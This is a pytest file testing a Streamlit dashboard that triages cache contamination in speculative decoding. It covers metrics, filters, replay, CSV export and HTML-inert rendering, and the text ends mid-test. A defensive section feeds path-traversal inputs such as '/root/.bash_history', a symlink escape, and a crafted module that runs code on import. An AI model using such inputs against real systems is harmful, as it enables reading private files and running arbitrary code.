"""The dashboard, page by page, through Streamlit's AppTest on small databases with known answers."""

from __future__ import annotations

import io
import os
import re
import shutil
from datetime import datetime, timedelta, timezone

import pandas as pd
import pytest
import streamlit.runtime.scriptrunner.script_runner as script_runner
from apptest import (
    APP,
    ROOT,
    figure,
    markdown_unescape,
    metrics_of,
    open_app,
    stand_in_replay_module,
    texts,
    ui,
    walk,
)
from dashboard_data import (
    HTML_CONSUMER,
    HTML_DEPLOYMENT,
    HTML_MODEL,
    HTML_OUTPUT,
    HTML_REQUEST_ID,
    SCRIPT,
    build_db,
    incident_records,
)
from helpers import STAND_IN_DECODER, rec, run_cli, write_jsonl
from streamlit.runtime.pages_manager import PagesManager
from streamlit.testing.v1 import AppTest

from specdec_core.analysis import Filters, differing_identity_columns, report
from specdec_core.ingestion.load import ingest
from specdec_core.replay import jobs
from specdec_core.replay.run import ReplayResult
from specdec_core.replay.run import _save as save_replays
from specdec_core.store.connection import Store

UTC = timezone.utc

# --- fixture databases -------------------------------------------------------------------------------------


# --- running the app ---------------------------------------------------------------------------------------


# --- Overview ----------------------------------------------------------------------------------------------


def test_overview_shows_the_headline_numbers(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db)
    assert texts(at, "title") == ["Overview"]
    assert metrics_of(at.main) == {
        "Requests": "6",
        "Hit rate": "50.0%",
        "Contaminated hits": "2",
        "Contaminated share of hits": "66.7%",
        "Length violations": "1",
        "Key collisions": "1",
        "Unique keys": "3",
        "Unique identities": "5",
        "Quarantined records": "0",
    }


def test_overview_says_where_and_since_when_contamination_started(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db)
    window = [markdown_unescape(m) for m in texts(at, "markdown") if "contaminated hit" in m]
    assert window == ["**prod**: 2 contaminated hits, since 2026-03-01 10:02:00 UTC; still going: the newest "
                      "request (2026-03-01 10:03:00 UTC) is one."]


def test_overview_lists_the_six_red_flags_with_links_to_their_pages(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db)
    flags = [m for m in texts(at, "markdown") if " · " in m]
    assert [markdown_unescape(f) for f in flags] == [
        ":red[**Yes**] · **Identical outputs although parameters differ**",
        ":gray[**Unknown**] · **Offline replay does not match production**",
        ":red[**Yes**] · **Experiment arms compared on each other's outputs**",
        ":red[**Yes**] · **Output lengths impossible for max_tokens**",
        ":red[**Yes**] · **Hit rate too good for this workload**",
        ":red[**Yes**] · **Few unique cache keys for many unique identities**",
    ]
    assert any("1 request returned more tokens than their max" in c for c in texts(at, "caption"))
    links = [(e.proto.label, e.proto.page) for e in at.get("page_link")]
    for title in ("Mismatches", "Replay", "Output length", "Cache", "Keys"):
        assert (f"Open {title}", title.lower().replace(" ", "_")) in links


def test_a_database_without_contamination_says_so(monkeypatch, clean_db):
    at = open_app(monkeypatch, clean_db)
    assert metrics_of(at.main)["Contaminated hits"] == "0"
    assert any(s.startswith("No contaminated hits") for s in texts(at, "success"))
    at.switch_page("pages/mismatches.py").run()
    assert any(s.startswith("No contaminated hits") for s in texts(at, "success"))
    assert not at.dataframe


def test_an_empty_database_shows_how_to_load_logs_on_every_page(monkeypatch, tmp_path):
    missing = tmp_path / "new.duckdb"
    at = open_app(monkeypatch, missing)
    for page in ui.PAGE_FILES.values():
        at.switch_page(page).run()
        assert not at.exception
        [info] = texts(at, "info")
        assert "specdec ingest PATH --db" in info and "make run" in info and "sidebar" in info
        assert not at.main.metric
    assert not missing.exists(), "looking at a database must not create it"
    Store(missing).ensure()  # a database with the schema but no requests is empty too
    at.switch_page("pages/overview.py").run()
    assert "specdec ingest PATH --db" in texts(at, "info")[0]


def test_a_file_that_is_not_a_database_says_so_once(monkeypatch, tmp_path):
    bad = tmp_path / "notes.duckdb"
    bad.write_text("not a database")
    at = open_app(monkeypatch, bad)
    [error] = texts(at, "error")
    # The store's own words: no DuckDB database, and what to do if it is a log (or the lake's probe of the file)
    assert re.search(r"notes\.duckdb: not a specdec store \(no DuckDB database\); a log is loaded into one with|"
                     r"file is not a database", markdown_unescape(error))
    assert error.endswith("Choose another database file in the sidebar.")
    assert bad.read_text() == "not a database"


def test_a_page_run_alone_reruns_through_app(monkeypatch, incident_db):
    """A first visit straight at a page of a fresh server starts the page without app.py."""
    monkeypatch.setattr(script_runner, "PagesManager", PagesManager)
    at = open_app(monkeypatch, incident_db)
    at.sidebar.multiselect(key="f_deployments").set_value(["staging"]).run()
    at.switch_page("pages/overview.py").run()
    assert at.sidebar.text_input(key=ui.DB_KEY).value == str(incident_db)
    assert metrics_of(at.main)["Requests"] == "2"


# --- the sidebar -------------------------------------------------------------------------------------------


def test_the_db_path_comes_from_the_cli_then_the_environment_then_the_default(monkeypatch):
    monkeypatch.setenv("SPECDEC_DB", "/env/triage.duckdb")
    assert ui.default_db_path(["--db", "/cli/triage.duckdb"]) == "/cli/triage.duckdb"
    assert ui.default_db_path(["--db=/cli/other.duckdb"]) == "/cli/other.duckdb"
    assert ui.default_db_path([]) == "/env/triage.duckdb"
    monkeypatch.delenv("SPECDEC_DB")
    assert ui.default_db_path(["--server.port", "1"]) == "data/specdec.duckdb"


def test_deployment_filter_changes_every_number_and_follows_to_other_pages(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db)
    at.sidebar.multiselect(key="f_deployments").set_value(["staging"]).run()
    shown = metrics_of(at.main)
    assert (shown["Requests"], shown["Hit rate"], shown["Contaminated hits"], shown["Key collisions"]) == (
        "2", "0.0%", "0", "0")
    assert at.session_state[ui.FILTERS_KEY] == Filters(deployments=("staging",))
    at.switch_page("pages/mismatches.py").run()
    assert any(s.startswith("No contaminated hits") for s in texts(at, "success"))


def test_draft_model_filter_keeps_only_that_arm(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db)
    at.sidebar.multiselect(key="f_draft_models").set_value(["llama-3b"]).run()
    shown = metrics_of(at.main)
    assert (shown["Requests"], shown["Contaminated hits"], shown["Length violations"]) == ("1", "1", "1")


def test_time_range_narrows_the_requests_but_keeps_sources_outside_it(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db)
    slider = at.sidebar.slider(key="f_time")
    assert slider.value == (datetime(2026, 3, 1, 10, 0, tzinfo=UTC), datetime(2026, 3, 1, 10, 6, tzinfo=UTC))
    slider.set_value((datetime(2026, 3, 1, 10, 2, tzinfo=UTC), datetime(2026, 3, 1, 10, 6, tzinfo=UTC))).run()
    shown = metrics_of(at.main)
    # r3, r4, s1, s2; r3 and r4 stay contaminated although their source r1 is before the window.
    assert (shown["Requests"], shown["Contaminated hits"]) == ("4", "2")
    assert at.session_state[ui.FILTERS_KEY].start == datetime(2026, 3, 1, 10, 2, tzinfo=UTC)
    assert at.session_state[ui.FILTERS_KEY].end is None


def test_an_unset_clock_on_a_few_lines_keeps_every_page_and_the_time_slider_usable(monkeypatch, tmp_path):
    # Go's zero time and epoch 0 are what a service logs before its clock is set; a slider from
    # year 1 would break the page (browsers can't place it) and one from 1970 would hide the hour.
    start = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
    records = [rec(f"n{i}", ts=(start + timedelta(minutes=i)).isoformat(), cache_hit=i > 0) for i in range(600)]
    records += [rec("zero-go", ts="0001-01-01T00:00:00Z", cache_key="k-z"), rec("zero-epoch", ts=0, cache_key="k-e")]
    db = build_db(tmp_path, records, "clock")
    at = open_app(monkeypatch, db)
    slider = at.sidebar.slider(key="f_time")
    assert slider.value == (datetime(2026, 3, 1, 10, 0, tzinfo=UTC), datetime(2026, 3, 1, 19, 59, tzinfo=UTC))
    assert any("2 requests have timestamps beyond this slider" in c.value.replace("\\", "")
               for c in at.sidebar.caption)
    assert metrics_of(at.main)["Requests"] == "602"  # handles at their ends: every request counts
    slider.set_value((datetime(2026, 3, 1, 11, 0, tzinfo=UTC), datetime(2026, 3, 1, 19, 59, tzinfo=UTC))).run()
    assert metrics_of(at.main)["Requests"] == "540"
    for page in ("cache", "output_length", "mismatches", "keys", "replay", "export"):
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, (page, [e.value for e in at.exception])


def test_loading_a_log_path_shows_the_counts_and_new_numbers(monkeypatch, tmp_path):
    log = write_jsonl(tmp_path / "logs.jsonl", [*incident_records(), "{not json"])
    at = open_app(monkeypatch, tmp_path / "loaded.duckdb")
    assert texts(at, "info"), "the empty state comes first"
    at.sidebar.text_input(key="load_path").set_value(str(log)).run()
    at.sidebar.button[0].click().run()
    assert metrics_of(at.sidebar) == {"Read": "7", "Accepted": "6", "Duplicates": "0", "Quarantined": "1"}
    [quarantine] = at.sidebar.dataframe
    assert list(quarantine.value.source_line) == [7]
    assert metrics_of(at.main)["Requests"] == "6"
    assert at.sidebar.multiselect(key="f_deployments").options == ["prod", "staging"]
    at.sidebar.button[0].click().run()
    assert metrics_of(at.sidebar) == {"Read": "7", "Accepted": "0", "Duplicates": "7", "Quarantined": "0"}


def test_a_path_that_cant_be_read_says_why_and_loads_nothing(monkeypatch, tmp_path):
    at = open_app(monkeypatch, tmp_path / "loaded.duckdb")
    at.sidebar.text_input(key="load_path").set_value(str(tmp_path / "nowhere.jsonl")).run()
    at.sidebar.button[0].click().run()
    [error] = texts(at, "error")
    assert error.startswith("Nothing loaded:") and "nowhere" in error
    assert not metrics_of(at.sidebar)
    # Load path takes a click with the box empty (it can't wait for the box's commit to be enabled): one line.
    at.sidebar.text_input(key="load_path").set_value("  ").run()
    at.sidebar.button[0].click().run()
    assert texts(at, "error") == ["Nothing loaded: type a log file, folder or glob first"]
    assert not metrics_of(at.sidebar)


def test_uploading_logs_ingests_them(monkeypatch, tmp_path):
    at = open_app(monkeypatch, tmp_path / "uploaded.duckdb")
    payload = "\n".join(__import__("json").dumps(r) for r in incident_records()).encode()
    [uploader] = [u for u in at.sidebar.get("file_uploader") if u.key == "uploads"]
    uploader.set_value(("incident.jsonl", payload, "application/octet-stream"))
    at.run()
    at.sidebar.button[1].click().run()
    assert metrics_of(at.sidebar)["Accepted"] == "6"
    assert metrics_of(at.main)["Contaminated hits"] == "2"


def test_an_upload_that_cannot_be_read_is_named_as_it_was_uploaded(monkeypatch, tmp_path):
    """Uploads are read from a temporary copy; the one-line error names the file the engineer chose."""
    at = open_app(monkeypatch, tmp_path / "uploaded.duckdb")
    [uploader] = [u for u in at.sidebar.get("file_uploader") if u.key == "uploads"]
    uploader.set_value(("broken.jsonl.gz", b"not gzip at all", "application/octet-stream"))
    at.run()
    at.sidebar.button[1].click().run()
    assert [markdown_unescape(e) for e in texts(at, "error")] == [
        "Nothing loaded: broken.jsonl.gz: cannot be read: Not a gzipped file (b'no')"]
    assert not metrics_of(at.sidebar)


def test_numbers_follow_the_database_when_it_changes(monkeypatch, tmp_path):
    db = build_db(tmp_path, incident_records()[:2])
    at = open_app(monkeypatch, db)
    assert metrics_of(at.main)["Requests"] == "2"
    ingest(Store(db), [str(write_jsonl(tmp_path / "more.jsonl", incident_records()[2:]))])
    at.run()
    assert metrics_of(at.main)["Requests"] == "6"


# --- the other pages ---------------------------------------------------------------------------------------


def test_cache_page_charts_and_tables(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "cache")
    assert [c.key for c in at.get("plotly_chart")] == [
        "hit_rate_by_combination", "hit_rate_over_time", "first_sight_hits", "latency_histogram",
        "acceptance_rate", "mean_accepted_length"]
    ratios, latency, acceptance = (d.value for d in at.dataframe)
    prod = ratios.set_index("deployment").loc["prod"]
    assert (prod.requests, prod.unique_keys, prod.unique_identities) == (4, 1, 3)
    assert (prod.hit_rate, prod.max_correct_hit_rate) == (0.75, 0.25)
    assert latency.set_index("outcome").loc["hit", "requests"] == 3
    assert list(acceptance.draft_model) == ["llama-1b"]
    assert acceptance.acceptance_rate[0] == 0.75


def test_output_length_page_lists_the_violation(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "output_length")
    assert len(at.get("plotly_chart")) == 1
    boxes, violations = (d.value for d in at.dataframe)
    assert list(boxes.max_tokens) == [2, 16, 64] and list(boxes.violations) == [1, 0, 0]
    assert list(violations.request_id) == ["r4"]
    assert texts(at, "error") == ["1 request returned more tokens than their max_tokens allows."]


def test_mismatches_page_lists_contaminated_hits_with_their_source(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "mismatches")
    [table] = at.dataframe
    assert list(table.value.request_id) == ["r3", "r4"]
    assert list(table.value.source_request_id) == ["r1", "r1"]
    assert list(table.value.differing_fields) == ["max_tokens", "draft_model;max_tokens"]
    assert len(at.get("plotly_chart")) == 1


def test_mismatches_text_filter_narrows_the_table(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "mismatches")
    at.text_input(key="mismatch_filter").set_value("DRAFT_MODEL").run()
    assert list(at.dataframe[0].value.request_id) == ["r4"]
    assert any("1 of 2 contaminated hits" in c for c in texts(at, "caption"))


def test_ticked_mismatches_stay_with_their_requests_when_the_filter_changes(monkeypatch, incident_db):
    calls = stand_in_replay_module(monkeypatch)
    at = open_app(monkeypatch, incident_db, "mismatches")
    at.session_state["mismatch_selected"] = ["r4"]
    at.run()
    # r4 sits at position 1; a filter showing only r4 at position 0, then none, must not move the tick.
    at.text_input(key="mismatch_filter").set_value("draft_model").run()
    at.text_input(key="mismatch_filter").set_value("").run()
    assert at.session_state["mismatch_selected"] == ["r4"]
    [replay_button] = [b for b in at.main.button if b.label == "Replay 1 selected"]
    replay_button.click().run()
    assert texts(at, "title") == ["Replay"]
    jobs.wait_all(30)
    at.switch_page("pages/replay.py").run()
    assert [c[1] for c in calls] == ["r4"], "Replay selected starts the replay of the ticked request"
    # The batch shows the run; the single-request box below is not filled with the same request again.
    assert at.text_input(key="replay_request_id").value == ""
    assert [b.label for b in at.main.button if b.label == "Replay with the full identity"] == []
    assert metrics_of(at.main)["Classification"] == "foreign"


def test_the_batch_offers_selected_requests_only_when_there_are_some(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "replay")
    assert not [r for r in at.main.radio if r.key == "batch_which"], "no radio of one option"
    assert any(c.startswith("Replays the most suspicious requests") for c in texts(at, "caption"))


def test_keys_page_shows_the_identities_behind_a_shared_key(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "keys")
    collisions, identities = (d.value for d in at.dataframe)
    assert list(collisions.cache_key) == ["k-1"] and list(collisions.identities) == [3]
    assert list(identities.requests) == [2, 1, 1] and list(identities.hits) == [1, 1, 1]
    assert list(identities.max_tokens) == [64, 16, 2]
    assert list(identities.first_seen.dt.strftime("%H:%M")) == ["10:00", "10:02", "10:03"]
    differing = differing_identity_columns(identities)
    assert "max_tokens" in differing and list(identities.columns)[:len(differing)] == differing, "in view first"
    chart = figure(at, "identities_per_key")
    [bars] = chart["data"]
    assert (bars["name"], list(bars["x"]), chart["layout"]["xaxis"]["title"]["text"]) == (
        "prod", [3], "identities sharing the key"), "how many keys each number of identities shares"


def test_replay_page_shows_the_logged_request_from_a_link(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "replay", request_id="r3")
    assert at.text_input(key="replay_request_id").value == "r3"
    assert texts(at, "code")[:2] == ["Summarise the incident.", "An output."]
    fields = at.dataframe[0].value.set_index("field").value
    assert (fields["max_tokens"], fields["source_request_id"], fields["differing_fields"]) == (
        "16", "r1", "max_tokens")
    [warning] = texts(at, "warning")
    assert "r1" in warning and "max\\_tokens" in warning


def test_replay_page_says_when_a_request_is_unknown(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, "replay")
    at.text_input(key="replay_request_id").set_value("nope").run()
    assert texts(at, "warning") == ["No request `nope` in this database."]


# --- replay pages with a stand-in for specdec_core.replay.run (no models; dashboard/test_replay_page.py runs the real one) ----


def test_replay_shows_both_outputs_the_diff_and_the_source_for_a_foreign_output(monkeypatch, incident_db):
    calls = stand_in_replay_module(monkeypatch)
    at = open_app(monkeypatch, incident_db, "replay", request_id="r3")
    [button] = [b for b in at.main.button if b.label == "Replay with the full identity"]
    button.click().run()
    jobs.wait_all(30)
    at.run()
    assert [(c[0], c[1], getattr(c[2], "_inner", c[2]), c[3]) for c in calls] == [("replay", "r3", STAND_IN_DECODER, None)]
    shown = metrics_of(at.main)
    assert shown["Classification"] == "foreign"
    similarity = shown["Similarity to this request's replay"]
    assert (shown["Common prefix (tokens)"], similarity, shown["Acceptance rate (replay)"]) == ("1", "50.0%", "75.0%")
    # The results come first, the request's log below them
    assert texts(at, "code") == ["An output.", "An <b>other</b> output.", "An output.",
                                 "Summarise the incident.", "An output."]
    # Production equals the source's replay exactly: the diff that explains the verdict is against this
    # request's own replay (what production should have been), labelled so.
    [heading] = [m for m in texts(at, "markdown") if m.startswith("**Word diff")]
    assert ("against the replay with the request's own identity (production equals the replay of the source "
            "request r1 exactly)") in markdown_unescape(heading)
    [ops] = [d.value for d in at.dataframe if "op" in d.value]
    assert "equal" in list(ops.op) and set(ops.op) != {"equal"}
    evidence = [d.value for d in at.dataframe if list(d.value.columns) == ["what", "value"]][0]
    assert list(evidence.itertuples(index=False, name=None)) == [
        ("Source", "r1"), ("Why", "replay of the source matches production")]
    assert not at.get("json"), "evidence in words, not raw JSON"


def test_a_finished_replay_shows_once_under_results_with_no_second_primary_button(monkeypatch, incident_db):
    stand_in_replay_module(monkeypatch)
    at = open_app(monkeypatch, incident_db, "replay", request_id="r3")
    assert [h.value for h in at.main.subheader] == ["Replay a request", "Batch replay", "Replay history"]
    at.button(key="replay_one").click().run()
    jobs.wait_all(30)
    at.run()
    assert [h.value for h in at.main.subheader] == ["Results", "Replay a request", "Batch replay", "Replay history"]
    assert [m.label for m in at.main.metric].count("Classification") == 1, "the replay is shown once"
    assert [(b.label, b.proto.type) for b in at.main.button if b.key in ("replay_one", "replay_batch")] == [
        ("Replay again", "secondary"), ("Replay batch", "secondary")]
    # Another request in the box is a new replay: its button is the primary one again, and the page stays
    # this one though the address bar holds r3's replay (it showed the stored replay, losing what was typed).
    assert at.query_params["replay_id"]
    at.text_input(key="replay_request_id").set_value("r4").run()
    assert [h.value for h in at.main.subheader] == ["Results", "Replay a request", "Batch replay", "Replay history"]
    assert at.button(key="replay_one").label == "Replay with the full identity"
    assert at.button(key="replay_one").proto.type == "primary"


def test_a_batch_from_mismatches_shows_under_running_then_under_results(monkeypatch, incident_db):
    stand_in_replay_module(monkeypatch)
    at = open_app(monkeypatch, incident_db, "replay")
    at.session_state[ui.REPLAY_IDS_KEY] = ["r3", "r4"]
    at.session_state[ui.REPLAY_START_KEY] = ["r3", "r4"]  # as Mismatches queues it
    at.run()
    headings = [h.value for h in at.main.subheader]
    assert headings[0] in ("Running", "Results") and headings[1:] == ["Replay a request", "Batch replay",
                                                                      "Replay history"]
    jobs.wait_all(30)
    at.run()
    assert [h.value for h in at.main.subheader][0] == "Results"
    [batch] = [d.value for d in at.dataframe if "open" in d.value and "message" in d.value]
    assert sorted(batch.request_id) == ["r3", "r4"]
    assert [b.label for b in at.main.button if b.proto.type == "primary"] == [], "no second primary button"
    history = at.dataframe[-1].value
    assert sorted(history.request_id) == ["r3", "r4"], "the history lists both stored replays"


def test_batch_replay_of_the_most_suspicious_requests(monkeypatch, incident_db):
    calls = stand_in_replay_module(monkeypatch)
    at = open_app(monkeypatch, incident_db, "replay")
    at.number_input(key="batch_count").set_value(5).run()
    [button] = [b for b in at.main.button if b.label == "Replay batch"]
    button.click().run()
    jobs.wait_all(30)
    at.run()
    # contaminated hits first, the one also longer than its max_tokens ahead; nothing else is suspicious
    assert [c[1] for c in calls] == ["r4", "r3"]
    [batch] = [d.value for d in at.dataframe if "open" in d.value and "message" in d.value]
    assert list(batch.request_id) == ["r4", "r3"]
    assert all(link.startswith("replay?replay_id=") for link in batch.open), "each row opens its replay page"
    at.toggle(key="batch_diffs").set_value(True).run()
    assert [e.label for e in at.get("expander") if e.label.startswith("r")] == ["r4: foreign", "r3: foreign"]


# --- export -------------------------------------------------------------------------------------------------


EXPECTED_CSV = (
    "request_id,ts,kind,cache_key,source_request_id,differing_fields,target_model,draft_model,temperature,"
    "max_tokens,tokenizer_version,deployment,output_tokens,classification,detail,replay_id,replay_link\n"
    "r3,2026-03-01T10:02:00.000Z,contaminated_hit,k-1,r1,max_tokens,llama-8b,llama-1b,0.0,16,tok-v1,prod,3,,,,\n"
    "r4,2026-03-01T10:03:00.000Z,contaminated_hit,k-1,r1,draft_model;max_tokens,llama-8b,llama-3b,0.0,2,tok-v1,"
    "prod,3,,,,\n"
    "r4,2026-03-01T10:03:00.000Z,length_violation,k-1,,,llama-8b,llama-3b,0.0,2,tok-v1,prod,3,,"
    "output_tokens 3 > max_tokens 2,,\n"
)


def test_export_serves_the_mismatch_report_csv(monkeypatch, incident_db, download):
    at = open_app(monkeypatch, incident_db, "export")
    assert metrics_of(at.main) == {"contaminated_hit": "2", "length_violation": "1", "replay_mismatch": "0"}
    [button] = at.get("download_button")
    csv = download(button)
    assert csv == report.report_csv(report.mismatch_report(Store(incident_db)))
    assert csv.decode() == EXPECTED_CSV


def test_the_report_names_each_requests_latest_replay_and_links_it_where_the_dashboard_is(
        monkeypatch, incident_db, download, tmp_path):
    db = tmp_path / incident_db.name
    shutil.copy(incident_db, db)  # the module's database stays without replays
    earlier = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)
    replays = [ReplayResult("r3", "match", "", {}, replay_id=f"{n}" * 32, replayed_at=earlier + timedelta(hours=n))
               for n in (1, 2)]
    save_replays(Store(db), replays)
    config = tmp_path / "specdec.toml"
    config.write_text('[dashboard]\nexternal_url = "https://triage.example.com/"\n', encoding="utf-8")
    monkeypatch.setenv("SPECDEC_CONFIG", str(config))
    at = open_app(monkeypatch, db, "export")
    csv = download(at.get("download_button")[0])
    out = tmp_path / "report.csv"
    done = run_cli("report", "--db", str(db), "--out", str(out), env={**os.environ, "SPECDEC_CONFIG": str(config)})
    assert done.returncode == 0, done.stderr
    assert out.read_bytes() == csv, "the CLI and the dashboard's export write the same bytes"
    rows = pd.read_csv(io.BytesIO(csv), dtype=str, keep_default_na=False)
    assert list(rows.columns[-2:]) == ["replay_id", "replay_link"]
    latest = "2" * 32
    assert list(zip(rows.request_id, rows.kind, rows.replay_id, rows.replay_link, strict=True)) == [
        ("r3", "contaminated_hit", latest, f"https://triage.example.com/replay?replay_id={latest}"),
        ("r4", "contaminated_hit", "", ""), ("r4", "length_violation", "", "")]

    config.write_text("[dashboard]\n", encoding="utf-8")  # no address: the id stays, the link is empty
    at = open_app(monkeypatch, db, "export")
    rows = pd.read_csv(io.BytesIO(download(at.get("download_button")[0])), dtype=str, keep_default_na=False)
    assert list(rows.replay_id) == [latest, "", ""] and list(rows.replay_link) == ["", "", ""]


def test_export_follows_the_kinds_and_the_filters(monkeypatch, incident_db, download):
    at = open_app(monkeypatch, incident_db, "export")
    at.multiselect(key="export_kinds").set_value(["length_violation"]).run()
    csv = download(at.get("download_button")[0]).decode()
    assert csv.splitlines() == [EXPECTED_CSV.splitlines()[0], EXPECTED_CSV.splitlines()[3]]
    at.sidebar.multiselect(key="f_deployments").set_value(["prod"]).run()
    assert download(at.get("download_button")[0]).decode() == csv
    at.sidebar.multiselect(key="f_deployments").set_value(["staging"]).run()
    [button] = at.get("download_button")
    assert button.proto.disabled, "nothing to download for staging"
    assert texts(at, "success") == ["Nothing to report for these kinds in this selection."]


# --- log text is shown as text ------------------------------------------------------------------------------


def assert_inert(at: AppTest) -> None:
    elements = walk(at.main) + walk(at.sidebar)
    assert not at.get("html"), "no st.html anywhere"
    for element in elements:
        proto = getattr(element, "proto", None)
        if proto is not None and hasattr(proto, "allow_html"):
            assert not proto.allow_html, element
    # Labels are markdown too (links and images among what they render).
    labels = [e.proto.label for kind in ("button", "download_button", "expander") for e in at.get(kind)]
    for body in texts(at, "markdown") + texts(at, "caption") + texts(at, "warning") + texts(at, "info") + labels:
        # no tag, and no link or image: `<`, `>` and `](` only ever arrive backslash-escaped
        assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(", body), body


def test_html_in_logs_renders_as_its_characters(monkeypatch, html_db):
    stand_in_replay_module(monkeypatch)
    at = open_app(monkeypatch, html_db)
    assert_inert(at)
    window = [m for m in texts(at, "markdown") if "contaminated hit" in m]
    assert markdown_unescape(window[0]).startswith(f"**{HTML_DEPLOYMENT}**: 1 contaminated")
    arms = [c for c in texts(at, "caption") if "Arms served" in c]
    assert HTML_MODEL in markdown_unescape(arms[0])

    at.switch_page("pages/mismatches.py").run()
    assert_inert(at)
    table = at.dataframe[0].value
    assert table.output_preview[0] == HTML_OUTPUT[:120] and table.deployment[0] == HTML_DEPLOYMENT

    at.switch_page("pages/replay.py")
    at.query_params["request_id"] = HTML_REQUEST_ID
    at.run()
    assert_inert(at)
    assert texts(at, "code")[:2] == [SCRIPT, HTML_OUTPUT]
    [b for b in at.main.button if b.label == "Replay with the full identity"][0].click().run()
    jobs.wait_all(30)
    at.run()
    assert_inert(at)
    assert "An <b>other</b> output." in texts(at, "code")

    for page in ("cache", "output_length", "keys", "export", "impact"):
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception
        assert_inert(at)
    assert at.selectbox(key="impact_consumer").value == HTML_CONSUMER
    [label] = [b.proto.label for b in at.get("download_button")
               if "affected requests" in b.proto.label and "every consumer" not in b.proto.label]
    assert markdown_unescape(label) == f"Download {HTML_CONSUMER}'s affected requests (CSV)"

    batch = open_app(monkeypatch, html_db, "replay")  # a batch's rows, each in an expander labelled by its id
    batch.session_state[ui.REPLAY_IDS_KEY] = ["x1", HTML_REQUEST_ID]  # as ticked on Mismatches
    batch.run()
    [b for b in batch.main.button if b.label == "Replay batch"][0].click().run()
    jobs.wait_all(30)
    batch.run()
    batch.toggle(key="batch_diffs").set_value(True).run()
    assert_inert(batch)
    assert [markdown_unescape(e.label) for e in batch.get("expander") if e.label.startswith("x")] == [
        "x1: foreign", f"{HTML_REQUEST_ID}: foreign"]


def test_app_and_pages_never_allow_html():
    shared = sorted((ROOT / "ui").glob("*.py"))
    assert {p.name for p in shared} >= {"state.py", "access.py", "format.py", "charts.py"}
    sources = [APP, *shared, *sorted((ROOT / "pages").glob("*.py"))]
    for source in sources:
        text = source.read_text()
        assert "unsafe_allow_html" not in text and "st.html" not in text, source


@pytest.mark.parametrize(("choice", "ok", "missing"), [
    ("our full key", True, None),
    ("prompt only (the classic bug)", False, "temperature"),
])
def test_keys_page_audits_a_key_scheme(monkeypatch, incident_db, choice, ok, missing):
    at = open_app(monkeypatch, incident_db, page="keys")
    at.radio(key="audit_choice").set_value(choice).run()
    at.button(key="audit_run").click().run(timeout=120)
    assert not at.exception
    assert metrics_of(at.main)["Verdict"] == ("covers the request" if ok else "findings")
    report = texts(at, "code")[-1]
    if missing:
        assert "missing" in report.lower() and missing in report


def test_keys_page_says_why_it_cannot_audit(monkeypatch, incident_db):
    at = open_app(monkeypatch, incident_db, page="keys")
    at.radio(key="audit_choice").set_value("a function of yours (module:function)").run()
    at.text_input(key="audit_target").set_value("no_such_module_xyz:key").run()
    at.button(key="audit_run").click().run(timeout=60)
    assert not at.exception
    assert any("no_such_module_xyz" in markdown_unescape(e.value) for e in at.error)


# --- what a visitor may open and run (no login: the dashboard is as safe as what it refuses) ----------------


def test_the_database_box_refuses_a_file_outside_the_roots_and_keeps_the_one_open(monkeypatch, tmp_path):
    (tmp_path / "started").mkdir()
    (tmp_path / "elsewhere").mkdir()
    db = build_db(tmp_path / "started", incident_records())
    elsewhere = build_db(tmp_path / "elsewhere", incident_records()[:2])
    at = open_app(monkeypatch, db)
    for escape in (str(elsewhere), f"{db.parent}/../elsewhere/{elsewhere.name}", "/root/.bash_history"):
        at.sidebar.text_input(key=ui.DB_KEY).set_value(escape).run()
        assert not at.exception
        [error] = texts(at, "error")
        assert "outside the folders" in markdown_unescape(error), error
        assert at.sidebar.text_input(key=ui.DB_KEY).value == str(db)
        assert metrics_of(at.main)["Requests"] == "6"
    beside = tmp_path / "started" / "new.duckdb"
    at.sidebar.text_input(key=ui.DB_KEY).set_value(str(beside)).run()
    assert not texts(at, "error") and at.sidebar.text_input(key=ui.DB_KEY).value == str(beside)


def test_load_logs_refuses_paths_outside_the_roots_and_links_out_of_them(monkeypatch, tmp_path):
    (tmp_path / "started").mkdir()
    (tmp_path / "elsewhere").mkdir()
    secret = write_jsonl(tmp_path / "elsewhere" / "secret.jsonl", incident_records())
    (tmp_path / "started" / "link").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    at = open_app(monkeypatch, tmp_path / "started" / "triage.duckdb")
    for escape in (str(secret), str(tmp_path / "started" / "link" / "secret.jsonl"),
                   f"{tmp_path}/started/../elsewhere/*.jsonl", "/root"):
        at.sidebar.text_input(key="load_path").set_value(escape).run()
        at.sidebar.button[0].click().run()
        [error] = texts(at, "error")
        assert error.startswith("Nothing loaded:") and "outside the folders" in markdown_unescape(error), error
        assert not metrics_of(at.sidebar)
    assert not (tmp_path / "started" / "triage.duckdb").exists(), "nothing was loaded"


def test_a_folder_named_in_the_config_roots_can_be_loaded(monkeypatch, tmp_path):
    (tmp_path / "started").mkdir()
    logs = write_jsonl(tmp_path / "shared-logs.jsonl", incident_records())
    cfg = tmp_path / "specdec.toml"
    cfg.write_text('[dashboard]\nroots = ["."]\n')
    monkeypatch.setenv("SPECDEC_CONFIG", str(cfg))
    at = open_app(monkeypatch, tmp_path / "started" / "triage.duckdb")
    at.sidebar.text_input(key="load_path").set_value(str(logs)).run()
    at.sidebar.button[0].click().run()
    assert metrics_of(at.sidebar)["Accepted"] == "6"


def test_keys_page_runs_no_function_the_config_does_not_list(monkeypatch, incident_db, tmp_path):
    module = tmp_path / "crafted_key.py"
    ran = tmp_path / "ran"
    module.write_text(f"open({str(ran)!r}, 'w').close()\n\ndef key(params):\n    return 'k'\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    at = open_app(monkeypatch, incident_db, page="keys")
